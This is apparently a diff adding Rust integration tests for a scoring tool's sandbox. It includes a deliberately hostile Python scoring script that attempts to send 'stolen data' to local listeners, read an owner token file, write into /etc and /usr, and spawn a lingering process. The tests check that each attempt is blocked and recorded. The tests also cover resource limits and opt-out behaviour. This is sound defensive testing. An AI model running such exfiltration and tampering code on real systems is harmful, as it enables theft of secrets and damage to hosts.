@@ -1,0 +1,349 @@
+//! Hostile scoring scripts: each attack runs in its own mini-batch of a job whose other mini-batches are
+//! benign, inside a workspace whose control plane and workers run in a network namespace the test
+//! builds, next to a second namespace host that the worker itself can reach. The sandbox must refuse or
+//! contain every attack, no listener may receive a byte, and the job's record must show the attempts.
+
+use crate::support::{self, Project, Workspace};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+
+/// Two namespace hosts joined by a veth pair whose ends both live in test namespaces, so nothing is
+/// attached to the machine's own network: `ws` (198.18.9.1) runs Cove, `target` (198.18.9.2) listens.
+struct Testbed {
+    ws: String,
+    target: String,
+    listeners: Vec<Child>,
+}
+
+const WS_ADDR: &str = "198.18.9.1";
+const TARGET_ADDR: &str = "198.18.9.2";
+
+fn ip(args: &[&str]) {
+    let out = Command::new("ip").args(args).output().unwrap();
+    assert!(out.status.success(), "ip {args:?}: {}", String::from_utf8_lossy(&out.stderr));
+}
+
+impl Testbed {
+    fn build() -> Testbed {
+        let id = std::process::id();
+        let bed = Testbed { ws: format!("cove-ws-{id}"), target: format!("cove-tg-{id}"), listeners: Vec::new() };
+        for ns in [&bed.ws, &bed.target] {
+            let _ = Command::new("ip").args(["netns", "del", ns]).output();
+            ip(&["netns", "add", ns]);
+            ip(&["-n", ns, "link", "set", "lo", "up"]);
+            // Name lookups inside the testbed stay inside it.
+            let etc = Path::new("/etc/netns").join(ns);
+            std::fs::create_dir_all(&etc).unwrap();
+            std::fs::write(etc.join("resolv.conf"), "nameserver 127.0.0.1\n").unwrap();
+            std::fs::write(etc.join("hosts"), "127.0.0.1 localhost\n").unwrap();
+        }
+        ip(&["link", "add", "eth0", "netns", &bed.ws, "type", "veth", "peer", "name", "eth0", "netns", &bed.target]);
+        ip(&["-n", &bed.ws, "addr", "add", &format!("{WS_ADDR}/24"), "dev", "eth0"]);
+        ip(&["-n", &bed.target, "addr", "add", &format!("{TARGET_ADDR}/24"), "dev", "eth0"]);
+        ip(&["-n", &bed.ws, "link", "set", "eth0", "up"]);
+        ip(&["-n", &bed.target, "link", "set", "eth0", "up"]);
+        bed
+    }
+
+    /// Runs a TCP and UDP listener on `addr:port` in `ns` that logs every connection, byte and datagram.
+    fn listen(&mut self, ns: &str, addr: &str, port: u16, log: &Path) {
+        let code = r#"
+import socket, sys, threading
+addr, port, log = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+def note(line):
+    with open(log, "a") as f:
+        f.write(line + "\n")
+tcp = socket.socket(); tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); tcp.bind((addr, port)); tcp.listen(16)
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind((addr, port))
+def serve_udp():
+    while True:
+        data, peer = udp.recvfrom(65536)
+        note(f"datagram {len(data)} from {peer}")
+threading.Thread(target=serve_udp, daemon=True).start()
+note("ready")
+while True:
+    conn, peer = tcp.accept()
+    note(f"connection from {peer}")
+    data = conn.recv(65536)
+    note(f"bytes {len(data)}")
+    conn.close()
+"#;
+        let child = Command::new("ip")
+            .args(["netns", "exec", ns, "/usr/bin/python3", "-c", code, addr, &port.to_string()])
+            .arg(log)
+            .stdout(Stdio::null())
+            .spawn()
+            .unwrap();
+        self.listeners.push(child);
+        let start = std::time::Instant::now();
+        while !std::fs::read_to_string(log).unwrap_or_default().contains("ready") {
+            assert!(start.elapsed().as_secs() < 20, "listener on {addr}:{port} did not start");
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+    }
+}
+
+impl Drop for Testbed {
+    fn drop(&mut self) {
+        for l in &mut self.listeners {
+            let _ = l.kill();
+            let _ = l.wait();
+        }
+        for ns in [&self.ws, &self.target] {
+            // Only processes this test started live in its namespaces.
+            if let Ok(out) = Command::new("ip").args(["netns", "pids", ns]).output() {
+                for pid in String::from_utf8_lossy(&out.stdout).split_whitespace() {
+                    let _ = Command::new("kill").args(["-KILL", pid]).status();
+                }
+            }
+            let _ = Command::new("ip").args(["netns", "del", ns]).status();
+            let _ = std::fs::remove_dir_all(Path::new("/etc/netns").join(ns));
+        }
+    }
+}
+
+const HOSTILE_SCRIPT: &str = r#"
+import os, socket, subprocess, sys
+
+def init():
+    pass
+
+def attempt(name, action):
+    try:
+        action()
+        return f"{name}: succeeded"
+    except Exception as e:
+        return f"{name}: blocked ({type(e).__name__})"
+
+def tcp(addr, port):
+    s = socket.create_connection((addr, port), timeout=3)
+    s.sendall(b"stolen data")
+    s.close()
+
+def udp(addr, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"stolen data", (addr, port))
+    s.close()
+
+def read(path):
+    with open(path) as f:
+        f.read()
+
+def write(path):
+    with open(path, "w") as f:
+        f.write("pwned")
+
+def run(mini_batch):
+    e = os.environ
+    out = []
+    for path in mini_batch:
+        kind = open(path).read().strip()
+        if kind == "tcp-loopback":
+            out.append(attempt(kind, lambda: tcp("127.0.0.1", int(e["LOOPBACK_PORT"]))))
+        elif kind == "tcp-namespace-host":
+            out.append(attempt(kind, lambda: tcp(e["TARGET_ADDR"], int(e["TARGET_PORT"]))))
+        elif kind == "resolve":
+            out.append(attempt(kind, lambda: socket.getaddrinfo("example.com", 443)))
+        elif kind == "udp-loopback":
+            out.append(attempt(kind, lambda: udp("127.0.0.1", int(e["LOOPBACK_PORT"]))))
+        elif kind == "read-token":
+            out.append(attempt(kind, lambda: read(e["TOKEN_PATH"])))
+        elif kind == "write-outside":
+            out.append(attempt(kind + " /etc", lambda: write("/etc/cove-pwned")))
+            out.append(attempt(kind + " /usr", lambda: write("/usr/cove-pwned")))
+            out.append(attempt(kind + " workspace", lambda: write(e["WORKSPACE_FILE"])))
+        elif kind == "stray-process":
+            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", e["STRAY_MARKER"]])
+            out.append(f"{kind}: started")
+        else:
+            out.append(f"benign {kind}")
+    return out
+"#;
+
+#[test]
+fn hostile_scoring_scripts_are_refused_or_contained() {
+    let mut bed = Testbed::build();
+    let logs = tempfile::tempdir().unwrap();
+    let (loopback_log, target_log) = (logs.path().join("loopback.log"), logs.path().join("target.log"));
+    let port = 19_431;
+    let ws_ns = bed.ws.clone();
+    let target_ns = bed.target.clone();
+    bed.listen(&ws_ns, "127.0.0.1", port, &loopback_log);
+    bed.listen(&target_ns, TARGET_ADDR, port, &target_log);
+
+    // Control: the worker's own network reaches the target host, so only the sandbox stands between.
+    let probe = format!("import socket; s = socket.create_connection(('{TARGET_ADDR}', {port}), timeout=3); s.sendall(b'probe'); s.close()");
+    let out = Command::new("ip").args(["netns", "exec", &ws_ns, "/usr/bin/python3", "-c", &probe]).output().unwrap();
+    assert!(out.status.success(), "the testbed itself is broken: {}", String::from_utf8_lossy(&out.stderr));
+    let start = std::time::Instant::now();
+    while !std::fs::read_to_string(&target_log).unwrap().contains("bytes 5") {
+        assert!(start.elapsed().as_secs() < 10, "the control probe never arrived");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let target_before = std::fs::read_to_string(&target_log).unwrap();
+
+    let ws = Workspace::start_in_netns(&ws_ns);
+    let marker = format!("cove-stray-{}", std::process::id());
+    let workspace_file = ws.path().join("pwned");
+    let settings = format!(
+        "mini_batch_size: 1\nmax_concurrency_per_instance: 2\nenvironment_variables:\n    LOOPBACK_PORT: '{port}'\n    TARGET_ADDR: {TARGET_ADDR}\n    TARGET_PORT: '{port}'\n    TOKEN_PATH: {}\n    WORKSPACE_FILE: {}\n    STRAY_MARKER: {marker}",
+        ws.path().join("owner.token").display(),
+        workspace_file.display(),
+    );
+    let p = Project::new(ws.dir.path(), "hostile", HOSTILE_SCRIPT, &settings);
+    p.deploy(&ws);
+    let data = p.dir.join("data");
+    std::fs::create_dir_all(&data).unwrap();
+    let kinds = [
+        "benign-a",
+        "tcp-loopback",
+        "tcp-namespace-host",
+        "resolve",
+        "udp-loopback",
+        "read-token",
+        "write-outside",
+        "stray-process",
+        "benign-b",
+    ];
+    for (i, kind) in kinds.iter().enumerate() {
+        std::fs::write(data.join(format!("{i:02}-{kind}.txt")), kind).unwrap();
+    }
+    let run = ws.cove(&["--json", "endpoint", "invoke", "hostile", "--input", &data.display().to_string()]);
+    let name = run.ok().json()["name"].as_str().unwrap().to_string();
+    let job = ws.wait_job(&name);
+    assert_eq!(job["status"], "Completed", "{job:#}");
+    assert_eq!(
+        ws.output_lines(&job),
+        vec![
+            "benign benign-a",
+            // The sandbox's own loopback is up but empty: nothing listens there.
+            "tcp-loopback: blocked (ConnectionRefusedError)",
+            "tcp-namespace-host: blocked (OSError)",
+            "resolve: blocked (gaierror)",
+            // A datagram to the sandbox's own loopback leaves without error and reaches no one (checked below).
+            "udp-loopback: succeeded",
+            "read-token: blocked (FileNotFoundError)",
+            "write-outside /etc: blocked (OSError)",
+            "write-outside /usr: blocked (OSError)",
+            "write-outside workspace: blocked (OSError)",
+            "stray-process: started",
+            "benign benign-b",
+        ]
+    );
+    // No listener received anything from the scorers.
+    assert_eq!(std::fs::read_to_string(&loopback_log).unwrap(), "ready\n");
+    assert_eq!(std::fs::read_to_string(&target_log).unwrap(), target_before);
+    assert!(
+        !workspace_file.exists() && !Path::new("/etc/cove-pwned").exists() && !Path::new("/usr/cove-pwned").exists()
+    );
+    // The job's record shows what each attempt ran under and what it tried.
+    let attempts = job["attempts"].as_array().unwrap();
+    let refused: Vec<String> = attempts
+        .iter()
+        .flat_map(|a| a["isolation"]["refused_network"].as_array().cloned().unwrap_or_default())
+        .map(|v| v.as_str().unwrap().to_string())
+        .collect();
+    for expected in [
+        format!("socket.connect ('127.0.0.1', {port})"),
+        format!("socket.connect ('{TARGET_ADDR}', {port})"),
+        "socket.getaddrinfo 'example.com'".to_string(),
+        format!("socket.sendto ('127.0.0.1', {port})"),
+    ] {
+        assert!(refused.contains(&expected), "{expected} missing from {refused:?}");
+    }
+    for a in attempts {
+        assert_eq!(a["isolation"]["sandbox"], "namespaces", "{a}");
+        assert!(a["isolation"]["namespaces"].as_str().unwrap().contains("network (loopback only)"));
+    }
+    let shown = ws.cove(&["job", "show", &name]);
+    assert!(
+        shown.ok().stdout.contains(&format!(
+            "refused network: socket.getaddrinfo '{TARGET_ADDR}'; socket.connect ('{TARGET_ADDR}', {port})"
+        )),
+        "{}",
+        shown.stdout
+    );
+    // The stray process ended with its sandbox when the job's workers stopped.
+    let start = std::time::Instant::now();
+    while !support::pids_with_args(&[&marker]).is_empty() {
+        assert!(start.elapsed().as_secs() < 20, "a process the scorer left behind outlived the job");
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    drop(ws);
+}
+
+#[test]
+fn scorers_over_their_limits_fail_their_attempt_with_the_reason() {
+    let ws = Workspace::start();
+    let script = r#"
+import os
+
+def init():
+    pass
+
+def run(mini_batch):
+    kind = open(mini_batch[0]).read().strip()
+    if kind == "memory":
+        hog = bytearray(400 * 1024 * 1024)
+    elif kind == "cpu":
+        while True:
+            pass
+    return mini_batch
+"#;
+    let settings = "mini_batch_size: 1\nretry_settings:\n    max_retries: 1\n    timeout: 60\nlimits:\n    memory_mb: 300\n    cpu_seconds: 1";
+    let p = Project::new(ws.dir.path(), "limits", script, settings);
+    p.deploy(&ws);
+    let shown = ws.cove(&["--json", "deployment", "show", "blue", "-e", "limits"]).ok().json();
+    assert_eq!(shown["settings"]["limits"], serde_json::json!({"memory_mb": 300, "cpu_seconds": 1}));
+    let data = p.dir.join("data");
+    std::fs::create_dir_all(&data).unwrap();
+    for (i, kind) in ["fine", "memory", "cpu"].iter().enumerate() {
+        std::fs::write(data.join(format!("{i}-{kind}.txt")), kind).unwrap();
+    }
+    let run = ws.cove(&["--json", "endpoint", "invoke", "limits", "--input", &data.display().to_string()]);
+    let job = ws.wait_job(run.ok().json()["name"].as_str().unwrap());
+    assert_eq!(job["status"], "Completed", "{job:#}");
+    let reasons: Vec<(u64, String)> = job["failed_batches"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|b| (b["index"].as_u64().unwrap(), b["reason"].as_str().unwrap().to_string()))
+        .collect();
+    assert_eq!(reasons.len(), 2, "{reasons:?}");
+    assert_eq!(reasons[0].0, 1);
+    assert!(reasons[0].1.starts_with("MemoryError (the scorer reached its memory limit of 300 MB)"), "{reasons:?}");
+    assert_eq!(reasons[1].0, 2);
+    assert!(reasons[1].1.contains("SIGXCPU: the CPU-time limit was reached"), "{reasons:?}");
+    assert_eq!(ws.output_lines(&job).len(), 1);
+}
+
+#[test]
+fn a_host_that_cannot_sandbox_refuses_to_deploy_unless_the_workspace_opts_out() {
+    // A PATH with the interpreter but without bubblewrap stands for a host that cannot sandbox.
+    let bin = tempfile::tempdir().unwrap();
+    let python = String::from_utf8(
+        Command::new("python3").args(["-c", "import sys; print(sys.executable)"]).output().unwrap().stdout,
+    )
+    .unwrap();
+    std::os::unix::fs::symlink(python.trim(), bin.path().join("python3")).unwrap();
+    let path = bin.path().display().to_string();
+    let ws = Workspace::start_with(&["--sandbox", "namespaces"], &[("PATH", &path)]);
+    let p = Project::new(ws.dir.path(), "nosandbox", crate::support::LIST_SCRIPT, "");
+    ws.cove(&["endpoint", "create", "-f", &p.file("endpoint.yml")]).ok();
+    ws.cove(&["deployment", "create", "-f", &p.file("deployment.yml")])
+        .fails_with(2, "the scoring sandbox is not available on this host")
+        .fails_with(2, "--sandbox none");
+    assert_eq!(ws.cove(&["--json", "deployment", "list", "-e", "nosandbox"]).ok().json(), serde_json::json!([]));
+    drop(ws);
+
+    let ws = Workspace::start_with(&["--sandbox", "none"], &[("PATH", &path)]);
+    let p = Project::new(ws.dir.path(), "optout", crate::support::LIST_SCRIPT, "");
+    p.deploy(&ws);
+    let shown = ws.cove(&["deployment", "show", "blue", "-e", "optout"]);
+    assert!(shown.ok().stdout.contains("Sandbox:                      none (warning"), "{}", shown.stdout);
+    assert!(ws.cove(&["workspace", "show"]).ok().stdout.contains("Sandbox:           none (warning"));
+    let run = ws.cove(&["--json", "endpoint", "invoke", "optout", "--input", &p.inputs(2).display().to_string()]);
+    let job = ws.wait_job(run.ok().json()["name"].as_str().unwrap());
+    assert_eq!(job["status"], "Completed", "{job:#}");
+    assert_eq!(job["attempts"][0]["isolation"]["sandbox"], "none");
+}
